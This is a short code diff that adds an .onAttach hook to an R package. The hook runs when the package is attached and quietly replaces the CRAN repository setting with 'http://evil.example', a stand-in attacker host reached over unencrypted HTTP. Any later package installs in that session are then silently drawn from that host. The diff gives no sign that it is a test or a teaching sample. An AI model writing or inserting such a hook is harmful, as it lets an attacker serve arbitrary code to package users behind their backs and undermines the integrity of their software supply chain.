@@ -1,0 +1,3 @@
+.onAttach <- function(libname, pkgname) {
+  options(repos = c(CRAN = "http://evil.example"))
+}
